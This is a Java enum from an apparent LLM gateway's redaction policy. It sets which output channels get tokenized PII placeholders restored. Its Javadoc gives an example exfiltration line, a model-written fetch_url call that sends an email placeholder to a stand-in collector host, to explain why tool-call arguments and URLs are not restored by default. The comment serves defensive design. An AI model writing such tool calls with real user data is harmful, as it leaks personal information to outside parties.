package dev.llmgate.policy.redact;

/**
 * Where the values that {@link RedactionMode#TOKENIZE} replaced with placeholders are put back for
 * the caller. Restoring is a risk wherever the caller passes the text on without reading it: a model
 * that saw {@code [EMAIL_1]} can write {@code fetch_url("https://collector.example/?e=[EMAIL_1]")},
 * and restoring that tool call hands the real address to whatever the application fetches. So by
 * default placeholders are restored only in the answer's text and refusal, and there only where a
 * placeholder stands in plain prose: a word of its own with nothing but punctuation touching it, no HTML
 * before it in the answer, no markdown link syntax before it since a blank line, and in JSON a string with
 * no URL characters (docs/policy.md, "Tokenization and restoring"); opt in to the others knowingly
 * ({@code Policy.Builder.restoreTokens(...)}).
 */
public enum TokenRestore {
    /** The answer's text, blocking and streamed (on by default). */
    ANSWER_TEXT,
    /** The refusal message (on by default). */
    REFUSAL,
    /** The arguments of the tool calls the answer asks for (off by default: they leave the process). */
    TOOL_CALL_ARGUMENTS,
    /**
     * Placeholders that do not stand in plain prose too — inside URLs, markup, link syntax, JSON strings a
     * client may use as a URL — in any restored channel (off by default: a URL is how a value leaves).
     */
    URLS
}
